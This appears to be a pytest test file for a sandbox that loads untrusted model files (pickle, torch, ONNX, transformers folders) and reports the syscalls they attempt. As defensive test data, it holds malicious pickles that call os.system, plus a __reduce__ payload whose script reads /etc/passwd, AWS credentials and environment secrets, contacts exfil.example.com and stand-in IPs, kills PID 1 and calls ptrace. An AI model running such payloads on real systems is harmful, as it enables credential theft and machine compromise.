"""Detonation from files to verdicts: which loader, what counts, what is usual here, and what cannot be had."""

import json
import os
import pickle
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import msgspec
import pytest

from modelairlock.isolation import jail
from modelairlock.limits import Limits
from modelairlock.pipeline import detonate as room
from modelairlock.pipeline import usual
from modelairlock.pipeline.detonate import detonate
from modelairlock.pipeline.openers import loaders_of
from modelairlock.pipeline.options import Options
from modelairlock.pipeline.scan import scan_sources
from modelairlock.records.coverage import Coverage
from modelairlock.records.errors import AirlockError
from modelairlock.records.isolation import Level
from modelairlock.records.jail import Certainty, Event, JailLimits, JailResult, Outcome
from modelairlock.records.scan import ScanRecord, Subject, Verdict
from tests.build.npy_builder import npy
from tests.build.onnx_builder import external, graph, model, node
from tests.build.transformers_builder import in_cache


class Runs:
    """Stands in for the jail: remembers the jobs, answers with results in turn."""

    def __init__(self, *results: JailResult) -> None:
        self.results = list(results)
        self.loaders: list[str] = []

    def __call__(self, job: jail.Job, **options: object) -> JailResult:
        self.loaders.append(job.argument)
        self.loaders = [one.partition(" ")[0] for one in self.loaders]
        self.shown = sorted(os.listdir(job.folder.place)) if job.folder else []
        self.libraries = job.argument.split()[1:]
        assert options["detonate"] is True
        return self.results.pop(0)


def event(syscall: str, *arguments: str) -> Event:
    return Event(
        seq=1, at_seconds=0.1, phase="load", thread=7, syscall=syscall, arguments=arguments, action="EPERM",
        certainty=Certainty.DENIED,
    )  # fmt: skip


def ended(outcome: Outcome = Outcome.COMPLETED, *events: Event, **fields: object) -> JailResult:
    return JailResult(level=Level.STRICT, layers=(), outcome=outcome, events=events, **fields)


def put(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def detonated(monkeypatch: pytest.MonkeyPatch, source: Path, *results: JailResult, **options: object):
    runs = Runs(*results)
    monkeypatch.setattr(room.jail, "run", runs)
    record = detonate([source], interpreter=sys.executable, **options)
    return record, runs.loaders


LIST = pickle.dumps([1, 2])


def test_a_quiet_load_is_clear_and_no_more(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    record, loaders = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), ended())
    [one] = record.detonations
    assert (one.verdict, one.scanned, one.findings, loaders) == (Verdict.CLEAR, Verdict.CLEAR, (), ["pickle.load"])
    assert json.loads(record.to_json())["schema"] == "modelairlock/detonate/1"
    assert msgspec.json.decode(record.to_json(), type=type(record)) == record


def test_what_it_tried_is_a_finding(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    violent = ended(Outcome.COMPLETED_WITH_VIOLATIONS, event("execve", "/bin/sh", "['sh']"))
    record, loaders = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), violent, ended())
    [one] = record.detonations
    assert one.verdict is Verdict.FLAGGED
    assert [finding.rule for finding in one.findings] == ["load-runs-program", "load-contradicts-scan"]
    assert loaders == ["pickle.load"], "no habit excuses that, so no honest file is asked"


def test_what_an_honest_file_does_too_is_usual(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    habit = event("openat", "/etc/mime.types", "O_RDONLY", "0")
    noisy = ended(Outcome.COMPLETED_WITH_VIOLATIONS, habit, habit)
    record, _ = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), noisy, noisy)
    [one] = record.detonations
    assert (one.verdict, one.outcome, one.usual, one.events) == (Verdict.CLEAR, Outcome.COMPLETED, 2, ())


def test_what_libraries_ask_in_passing_is_usual(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """numpy, imported by the load itself, asks where its memory lies."""
    idle = ended(Outcome.COMPLETED_WITH_VIOLATIONS, event("mbind", "0x1", "0x2"))
    record, loaders = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), idle)
    [one] = record.detonations
    assert (one.verdict, one.outcome, one.usual, loaders) == (Verdict.CLEAR, Outcome.COMPLETED, 1, ["pickle.load"])


def test_a_quiet_load_is_no_answer_to_what_was_read(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """``pickle.load`` loads the first pickle; who loads on gets the second."""
    record, _ = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST + b"cos\nsystem\n(S'id'\ntR."), ended())
    [one] = record.detonations
    assert (one.scanned, one.verdict) == (Verdict.FLAGGED, Verdict.INCOMPLETE)
    assert [finding.severity.value for finding in one.findings] == ["info"]


def test_one_thread_too_many_is_a_limit_and_no_attempt(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    more = msgspec.structs.replace(event("clone", "VM|THREAD"), action="EAGAIN")
    violent = ended(Outcome.COMPLETED_WITH_VIOLATIONS, more)
    record, _ = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), violent)
    [one] = record.detonations
    assert (one.verdict, one.findings, one.events) == (Verdict.INCOMPLETE, (), (more,))
    assert "more than 64 threads" in one.detail
    forks = msgspec.structs.replace(event("clone", "VM|VFORK"), action="EAGAIN")
    record, _ = detonated(monkeypatch, tmp_path, ended(Outcome.COMPLETED_WITH_VIOLATIONS, more, forks))
    assert {finding.rule for finding in record.detonations[0].findings} >= {"load-starts-process"}


def test_a_file_that_changes_meanwhile_is_never_clear(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Else another could be loaded than was read, and be changed back."""
    path = put(tmp_path, "m.pkl", LIST)

    def touching(job: jail.Job, **options: object) -> JailResult:
        put(tmp_path, "m.pkl", LIST)
        return ended()

    monkeypatch.setattr(room.jail, "run", touching)
    [one] = detonate([path], interpreter=sys.executable).detonations
    assert (one.verdict, one.scanned) == (Verdict.INCOMPLETE, None)
    assert "was changed while" in one.detail


def test_many_attempts_hide_no_other_sort(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    many = [event("openat", f"/etc/x{at}", "O_RDONLY", "0o0") for at in range(300)]
    last = [event("openat", "/srv/x/.ssh/id_rsa", "O_RDONLY", "0o0"), event("execve", "/bin/sh", "['sh']")]
    violent = ended(Outcome.COMPLETED_WITH_VIOLATIONS, *many, *last)
    record, _ = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), violent)
    [one] = record.detonations
    found = {finding.rule: finding for finding in one.findings}
    assert found.keys() == {"load-runs-program", "load-reads-files", "load-contradicts-scan"}
    assert "id_rsa" in found["load-reads-files"].message
    assert "the first of 200)" in found["load-contradicts-scan"].message


def test_usual_calls_hide_no_others(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    habit = event("openat", "/etc/mime.types", "O_RDONLY", "0")
    mixed = ended(Outcome.COMPLETED_WITH_VIOLATIONS, habit, event("openat", "/etc/passwd", "O_RDONLY", "0"))
    noisy = ended(Outcome.COMPLETED_WITH_VIOLATIONS, habit)
    record, _ = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), mixed, noisy)
    [one] = record.detonations
    assert one.verdict is Verdict.FLAGGED
    assert [finding.rule for finding in one.findings] == ["load-contradicts-scan", "load-reads-files"]


def test_usual_calls_of_which_some_were_dropped_are_not_all_that_there_was(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    habit = event("openat", "/etc/mime.types", "O_RDONLY", "0")
    flood = ended(Outcome.COMPLETED_WITH_VIOLATIONS, habit, dropped=9)
    record, _ = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), flood, ended(Outcome.COMPLETED, habit))
    assert record.verdict is Verdict.INCOMPLETE


@pytest.mark.parametrize("outcome", [one for one in Outcome if not one.value.startswith("completed")])
def test_what_did_not_end_well_is_never_clear(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, outcome: Outcome
) -> None:
    record, _ = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), ended(outcome))
    assert record.verdict is Verdict.INCOMPLETE
    assert record.opened is outcome.opened


def test_another_abi_is_an_attack(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    killed = ended(Outcome.BLOCKED_CRASH, detail="it was ended by SIGSYS")
    record, _ = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), killed)
    assert [finding.rule for finding in record.detonations[0].findings] == [
        "load-attacks-machine", "load-contradicts-scan",
    ]  # fmt: skip
    assert room.as_scan(record).subjects[0].coverage.size_bytes == len(LIST)


def test_a_folder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    put(tmp_path, "a.npy", npy())
    put(tmp_path, "b.txt", b"words\n")
    put(tmp_path, "c.joblib", LIST)
    record, loaders = detonated(monkeypatch, tmp_path, ended(), ended())
    assert loaders == ["numpy.load", "joblib.load"]
    assert [Path(left.path).name for left in record.excluded] == ["b.txt"]


def test_what_the_scan_did_not_get_through_is_not_passed_over(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A file that wears the readers out has no format, and must not go by as if no loader opened it."""

    def hurried(sources: Sequence[str | Path], options: Options, **more: Any) -> ScanRecord:
        return scan_sources(sources, msgspec.structs.replace(options, limits=Limits(seconds=1e-4)), **more)

    monkeypatch.setattr(room, "scan_sources", hurried)
    record, loaders = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST))
    assert (record.detonations, record.excluded, loaders) == ((), (), [])
    [error] = record.errors
    assert "the scan could not tell what it is (over_limit: reading took longer" in error.message
    assert "--loader" in error.hint
    record, loaders = detonated(monkeypatch, tmp_path, ended(), loader="pickle.load")
    assert (len(record.detonations), record.errors, loaders) == (1, (), ["pickle.load"])


def test_what_a_file_needs_is_imported_before_it_is_there(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    runs = Runs(ended())
    monkeypatch.setattr(room.jail, "run", runs)
    put(tmp_path, "m.pkl", b"cnumpy\nndarray\n0csklearn.svm\nSVC\n0cevil\nx\n.")
    detonate([tmp_path], interpreter=sys.executable)
    assert runs.libraries == ["numpy", "sklearn"]


def test_what_the_operator_can_mend(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    def refuses(*_: object, **__: object) -> JailResult:
        raise AirlockError("torch.load cannot be had in python", "name another")

    put(tmp_path, "m.pkl", LIST)
    monkeypatch.setattr(room.jail, "run", refuses)
    record = detonate([tmp_path / "m.pkl", tmp_path / "missing"], interpreter=sys.executable, loader="torch.load")
    assert (record.verdict, record.detonations) == (Verdict.INCOMPLETE, ())
    assert [error.hint for error in record.errors][-1] == "name another"
    assert len(record.errors) == 2
    with pytest.raises(AirlockError, match="no loader is called"):
        detonate([tmp_path], loader="os.system")
    for name, meant in (("torch", "torch.load"), ("keras", "keras.load_model"), (".onnx", "onnxruntime.Inference")):
        with pytest.raises(AirlockError) as raised:
            detonate([tmp_path], loader=name)
        assert raised.value.hint.startswith(f"Did you mean {meant}")
    for seconds in (float("nan"), float("inf"), -1.0):
        with pytest.raises(AirlockError, match="is no number of seconds"):
            detonate([tmp_path], seconds=seconds)
    [error] = detonate([tmp_path / "m.pkl"], interpreter=sys.executable, loader="transformers").errors
    assert (error.path, error.message) == (str(tmp_path / "m.pkl"), "there is no model of transformers in it")


@pytest.mark.parametrize(
    ("name", "formats", "members", "loader"),
    [
        ("m.pt", ("torch",), (), "torch.load"),
        ("m.pkl", ("pickle",), (), "pickle.load"),
        ("m.joblib", ("pickle",), (), "joblib.load"),
        ("m.pkl.gz", ("gzip",), ("pickle",), "joblib.load"),
        ("m.zip", ("zip",), ("pickle",), ""),
        ("m.h5", ("hdf5",), (), "keras.load_model"),
        ("m.safetensors", ("safetensors",), (), ""),
        ("m.onnx", ("onnx",), (), "onnxruntime.InferenceSession"),
        ("m.ort", ("ort",), (), "onnxruntime.InferenceSession"),
        ("m.skops", ("skops", "zip"), (), "skops.io.load"),
        ("m", (), (), ""),
        ("m.pt", ("torchscript", "zip"), ("pickle",), "torch.load"),
        ("m.ubj", (), (), "xgboost.Booster"),
        ("m.ubj", ("pickle",), (), "pickle.load"),
        ("m.json", ("json_text",), (), ""),
        ("m.bin", ("torch", "pickle", "zip"), (), "torch.load pickle.load"),
        ("m.joblib", ("pickle", "npy"), (), "joblib.load numpy.load"),
    ],
)
def test_the_loader_that_opens_it(name: str, formats: tuple[str, ...], members: tuple[str, ...], loader: str) -> None:
    def subject(*found: str, **fields: object) -> Subject:
        return Subject(path=name, verdict=Verdict.CLEAR, formats=found, coverage=Coverage(size_bytes=1), **fields)

    assert loaders_of(name, subject(*formats, members=tuple(map(subject, members)))) == tuple(loader.split())
    assert loaders_of(name, None) == ()


BERT = b'{"model_type": "bert", "architectures": ["BertModel"]}'


def test_a_folder_of_transformers_is_loaded_as_one_and_its_files_by_themselves(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    put(tmp_path, "config.json", BERT)
    put(tmp_path, "pytorch_model.pkl", LIST)
    put(tmp_path, "vocab.txt", b"hello\n")
    put(tmp_path, "modeling.py", b"import scipy.sparse, evil\nfrom . import sklearn\n")
    runs = Runs(ended(), ended(Outcome.COMPLETED_WITH_VIOLATIONS, event("execve", "/bin/sh", "['sh']")))
    monkeypatch.setattr(room.jail, "run", runs)
    record = detonate([tmp_path], interpreter=sys.executable)
    assert runs.loaders == ["pickle.load", "transformers"]
    assert runs.shown == ["config.json", "modeling.py", "pytorch_model.pkl", "vocab.txt"]
    assert runs.libraries == ["scipy"], "imported before the model is there, and nothing that is not in the table"
    file, folder = record.detonations
    assert (file.verdict, folder.path, folder.verdict) == (Verdict.CLEAR, str(tmp_path), Verdict.FLAGGED)
    assert {finding.rule for finding in folder.findings} >= {"load-runs-program"}
    assert [left.reason for left in record.excluded] == [room._IN_FOLDER] * 3
    assert [one.path for one in room.as_scan(record).subjects] == [file.path, folder.path]


def test_a_harmless_folder_is_not_loaded_in_place_of_one_that_is_written_alike(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for name in ("m\udcff", "m\\udcff"):
        (tmp_path / name).mkdir()
        put(tmp_path / name, "config.json", BERT)
    put(tmp_path, "m\udcff.pkl", LIST)
    record, loaders = detonated(monkeypatch, tmp_path)
    assert loaders == []
    assert [one.message[:20] for one in record.errors] == ["its name is no UTF-8"] * 3


@pytest.mark.parametrize("verdict", [Verdict.CLEAR, Verdict.FLAGGED])
def test_a_quiet_folder_is_no_answer_to_what_was_read_in_it(
    verdict: Verdict, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    put(tmp_path, "config.json", BERT)
    if verdict is Verdict.FLAGGED:
        put(tmp_path, "x.bin", b"cos\nsystem\n(S'id'\ntR.")
    record, _ = detonated(monkeypatch, tmp_path, ended(), loader="transformers")
    [one] = record.detonations
    assert (one.scanned, one.verdict) == (verdict, Verdict.CLEAR if verdict is Verdict.CLEAR else Verdict.INCOMPLETE)


def test_each_snapshot_that_shares_a_configuration_is_loaded(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    own = tmp_path / "own"
    own.mkdir()
    put(own, "config.json", BERT)
    snapshot = in_cache(own, tmp_path / "cache")
    other = snapshot.parent / ("b" * 40)
    other.mkdir()
    (other / "config.json").symlink_to(os.readlink(snapshot / "config.json"))
    put(other, "modeling.py", b"import os\n")
    record, loaders = detonated(monkeypatch, tmp_path / "cache", ended(), ended())
    assert loaders == ["transformers"] * 2
    assert [one.path for one in record.detonations] == [str(snapshot), str(other)]


def test_a_configuration_that_is_named_alone_does_not_mean_its_folder(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    put(tmp_path, "modeling.py", b"")
    record, loaders = detonated(monkeypatch, put(tmp_path, "config.json", BERT))
    assert (loaders, record.detonations, len(record.excluded)) == ([], (), 1)


def test_another_loader_that_was_named_loads_no_folder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    put(tmp_path, "config.json", BERT)
    _, loaders = detonated(monkeypatch, tmp_path, ended(), loader="pickle.load")
    assert loaders == ["pickle.load"]


def test_no_model_of_transformers_is_an_error(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    record, loaders = detonated(monkeypatch, put(tmp_path, "m.pkl", LIST), loader="transformers")
    assert (loaders, record.verdict) == ([], Verdict.INCOMPLETE)
    assert "config.json" in record.errors[0].hint


def test_too_many_files_are_an_error_and_the_rest_goes_on(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    put(tmp_path, "config.json", BERT)
    put(tmp_path, "m.pkl", LIST)
    monkeypatch.setattr("modelairlock.pipeline.model_folder.MOST_FILES", 1)
    record, loaders = detonated(monkeypatch, tmp_path, ended())
    assert loaders == ["pickle.load"]
    assert "more than 1 files" in record.errors[0].message


def test_a_model_is_shown_with_the_data_that_it_names(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    runs = Runs(ended())
    monkeypatch.setattr(room.jail, "run", runs)
    put(tmp_path, "w.data", bytes(16))
    put(tmp_path, "beside.pkl.txt", b"words")
    put(tmp_path, "model.onnx", model(graph((node("Add", ("x", "w"), ("y",)),), (external("w.data"),))))
    detonate([tmp_path / "model.onnx"], interpreter=sys.executable)
    assert (runs.loaders, runs.shown) == (["onnxruntime.InferenceSession"], ["model.onnx", "w.data"])


@pytest.mark.jail
@pytest.mark.usefixtures("jailed_python")
@pytest.mark.skipif(sys.platform != "linux", reason="the jail is Linux's")
def test_for_real(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    put(tmp_path, "evil.pkl", b"cos\nsystem\n(S'echo > %b'\ntR." % str(mark).encode())
    put(tmp_path, "good.pkl", LIST)
    record = detonate([tmp_path], interpreter=sys.executable, limits=JailLimits(wall_seconds=30))
    evil, good = record.detonations
    assert (evil.verdict, evil.scanned, good.verdict) == (Verdict.FLAGGED, Verdict.FLAGGED, Verdict.CLEAR)
    assert evil.findings[0].rule == "load-runs-program"
    assert not mark.exists()


@pytest.mark.jail
@pytest.mark.usefixtures("jailed_python")
@pytest.mark.frameworks
@pytest.mark.parametrize("loader", ["pickle.load", "joblib.load", "numpy.load", "torch.load"])
def test_the_honest_files_are_loaded(loader: str) -> None:
    pytest.importorskip(loader.partition(".")[0])
    with usual.honest_file(loader) as fd:
        result = jail.run(jail.loading(loader, fd, sys.executable), limits=JailLimits())
    assert result.outcome is Outcome.COMPLETED, result.detail


TRIES = """
import ctypes, os, signal, socket
def tried(what):
    try: what()
    except Exception: pass
tried(lambda: os.execv("/bin/true", ["true", "--of=it"]))
tried(lambda: open("/etc/passwd"))
tried(lambda: os.open("/srv/someone/planted", os.O_WRONLY | os.O_CREAT, 0o640))
tried(lambda: open("/srv/someone/.aws/credentials"))
tried(lambda: open("/proc/self/environ"))
tried(lambda: socket.create_connection(("198.51.100.7", 443)))
tried(lambda: socket.socket(socket.AF_INET6).connect(("2001:db8::7", 8443)))
tried(lambda: socket.getaddrinfo("exfil.example.com", 80))
tried(lambda: os.kill(1, signal.SIGKILL))
tried(lambda: ctypes.CDLL(None).ptrace(16, 1, 0, 0))
tried(lambda: os.environ["AWS_SECRET_ACCESS_KEY"])
tried(lambda: __import__("xmlrpc.client"))
tried(lambda: os.fork() or os._exit(0))
"""


@pytest.mark.jail
@pytest.mark.usefixtures("jailed_python")
@pytest.mark.skipif(sys.platform != "linux", reason="the jail is Linux's")
def test_all_that_it_tried_is_reported_with_what_it_was_after(tmp_path: Path) -> None:
    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return exec, (TRIES, {})

    [one] = detonate([put(tmp_path, "m.pkl", pickle.dumps(Payload()))], interpreter=sys.executable).detonations
    told = {" ".join((event.syscall, *event.arguments)) for event in one.events}
    for words in (
        "execve /bin/true ['true', '--of=it']",
        "openat /etc/passwd O_RDONLY",
        "openat /srv/someone/planted O_WRONLY|O_CREAT",
        "openat /srv/someone/.aws/credentials O_RDONLY",
        "openat /proc/self/environ O_RDONLY",
        "198.51.100.7:443",
        "[2001:db8::7]:8443",
        "name exfil.example.com",
        "kill 1 9",
        "ptrace 0x10 1",
    ):
        assert any(words in call for call in told), (words, told)
    assert {event.syscall for event in one.events} & {"clone", "fork", "vfork"}
    assert {event.phase for event in one.events} == {"load"}
    assert {finding.rule for finding in one.findings} == {
        "load-runs-program", "load-reads-files", "load-writes-files", "load-reaches-network", "load-attacks-machine",
        "load-starts-process",
    }  # fmt: skip
    [reading] = [finding for finding in one.findings if finding.rule == "load-reads-files"]
    assert (reading.severity.value, "/.aws/credentials" in reading.message) == ("high", True)
    assert one.variables == ("AWS_SECRET_ACCESS_KEY",)
    assert "xmlrpc" in one.imported
    assert one.limits is not None
    assert [phase.name for phase in one.phases] == ["import", "load", "inference", "unload"]


def test_hashing_what_is_mostly_a_hole_ends_in_time(tmp_path: Path) -> None:
    path = tmp_path / "hole"
    with path.open("wb") as file:
        file.truncate(1 << 42)
    with path.open("rb") as file:
        assert room._hashed(file.fileno(), 1 << 42, 0.05) is None
        assert room._hashed(file.fileno(), 0, 5.0) is not None
